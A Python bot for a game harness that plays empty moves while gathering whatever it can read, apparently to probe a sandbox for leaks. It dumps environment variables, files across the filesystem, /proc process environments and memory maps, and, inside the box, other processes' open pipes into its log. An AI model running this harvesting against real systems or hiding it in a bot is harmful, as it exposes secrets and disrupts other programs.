"""A bot that plays on and meanwhile looks for what it should not know. What it finds it writes to its log, in one line.

`spy.txt` beside it has the folders to look through, one a line; in the box also everything else is looked through.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

MAX = 4_000_000
BOXED = Path("/bot").is_dir()


def look(roots: list[str]) -> str:
    """All that can be read, in one text."""
    found: list[bytes] = [repr(os.environ).encode(), " ".join(sys.argv).encode()]
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [name for name in folders if not os.path.islink(os.path.join(folder, name))]
            found += [read(os.path.join(folder, name)) for name in names]
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ", "maps", "mountinfo"):
            found.append(read(os.path.join("/proc", process, name)))
    return b"\n".join(found + handles_of_others()).decode(errors="replace")


def handles_of_others() -> list[bytes]:
    """What other processes have open; only in the box, for who reads from a pipe takes it away."""
    if not BOXED:
        return []
    found = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        path = os.path.join("/proc", process, "fd")
        if process != str(os.getpid()) and os.access(path, os.R_OK):
            found += [read(os.path.join(path, one)) for one in os.listdir(path)]
    return found


def read(path: str) -> bytes:
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(handle, 1 << 16)
    except OSError:
        return b""
    finally:
        os.close(handle)


def main() -> None:
    asked = Path(__file__).with_name("spy.txt").read_text().splitlines()
    roots = [f"/{name}" for name in os.listdir("/") if name not in ("usr", "proc", "lib", "bin", "sbin", "lib64")]
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "hello":
            answer: dict[str, object] = {"type": "ready"}
        elif message["type"] == "view":
            if message["step"] == 2:
                print(json.dumps(look(roots if BOXED else asked)[:MAX]), file=sys.stderr, flush=True)
            answer = {"type": "orders", "orders": []}
        else:
            break
        print(json.dumps(answer), flush=True)


main()
